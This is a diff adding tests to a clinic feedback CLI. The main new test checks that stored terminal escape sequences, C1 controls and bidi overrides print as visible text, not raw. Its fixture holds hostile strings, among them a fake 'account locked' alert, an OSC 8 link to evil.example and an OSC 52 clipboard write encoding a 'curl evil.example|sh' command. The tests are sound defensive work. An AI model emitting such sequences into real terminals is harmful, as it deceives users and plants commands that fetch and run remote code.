@@ -67,6 +67,16 @@ describe('clinic feedback and testimonials import, on the database the server ho
     expect(JSON.parse((await clinic('feedback', 'list', '--pending', '--json')).stdout).feedback).toEqual([]);
   });
 
+  // Issue 34 item 10: a card with no clinic shows the site's default, which staff were never told.
+  it('publishes feedback that names no clinic with a note on stderr of the clinic the site shows it under', async () => {
+    const id = await new PostgresFeedback(server.db).insert({ rating: 5, comments: 'Seen on time.' });
+    expect(await clinic('feedback', 'publish', id)).toEqual({
+      code: 0,
+      stdout: `Published ${id}: it is now public.\n`,
+      stderr: `Note: ${id} names no clinic, so the site shows it under Glendale.\n`,
+    });
+  });
+
   it('hides feedback, and refuses unknown or non-numeric ids with exit 2', async () => {
     const id = await new PostgresFeedback(server.db).insert({ rating: 3, comments: 'OK.' });
     expect((await clinic('feedback', 'hide', id)).code).toBe(0);
@@ -126,6 +136,43 @@ describe('clinic feedback and testimonials import, on the database the server ho
       'cannot read it (ENOENT)',
     );
     expect(JSON.parse((await clinic('feedback', 'list', '--json')).stdout).feedback).toEqual([]);
+  });
+
+  it('prints stored escape sequences, C1 controls and bidi overrides as visible text in every format, never raw', async () => {
+    // Stored before the form refused control characters, or imported: the database may hold any of these.
+    const hostile = [
+      'Great!\u001b[2J\u001b[H', // clear the screen
+      '\u001b[31mYour account is locked\u001b[0m', // fake red text
+      '\u001b]0;clinic\u0007', // window title
+      '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007', // OSC 52 clipboard write
+      '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\', // OSC 8 link
+      'Terrible\rWonderful', // CR overwriting the row
+      '\u009b2J', // C1 CSI
+      '\u202egnp.exe', // right-to-left override
+      '\u2066isolated\u2069',
+    ].join(' ');
+    const stored = new PostgresFeedback(server.db);
+    await stored.insert({ rating: 1, comments: hostile });
+    await sql`update testimonials set name = ${'Ana\u009b31m \u202eLopez'}`.execute(server.db);
+    // eslint-disable-next-line no-control-regex -- the raw control characters are what must not appear
+    const raw = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+    for (const format of [[], ['--csv'], ['--json']]) {
+      const run = await clinic('feedback', 'list', ...format);
+      expect(run.code).toBe(0);
+      expect(run.stdout.replaceAll('\r\n', '\n')).not.toMatch(raw);
+    }
+    const table = (await clinic('feedback', 'list')).stdout;
+    expect(table).toContain('Great!\\u001b[2J\\u001b[H \\u001b[31mYour account is locked');
+    expect(table).toContain('Terrible\\u000dWonderful \\u009b2J \\u202egnp.exe');
+    expect(table).toContain('Ana\\u009b31m \\u202eLopez');
+    // --json still gives back exactly what was stored.
+    expect(JSON.parse((await clinic('feedback', 'list', '--json')).stdout).feedback[0]).toMatchObject({ comment: hostile });
+  });
+
+  it('shows a multi-line comment on one table row, and keeps its line breaks in --csv', async () => {
+    await new PostgresFeedback(server.db).insert({ rating: 5, comments: 'Quick visit.\r\n\tKind staff.' });
+    expect((await clinic('feedback', 'list')).stdout).toContain('Quick visit.  Kind staff.\n');
+    expect((await clinic('feedback', 'list', '--csv')).stdout).toContain('"Quick visit.\n\tKind staff."\r\n');
   });
 
   it('keeps a spreadsheet formula in a comment inert in --csv', async () => {
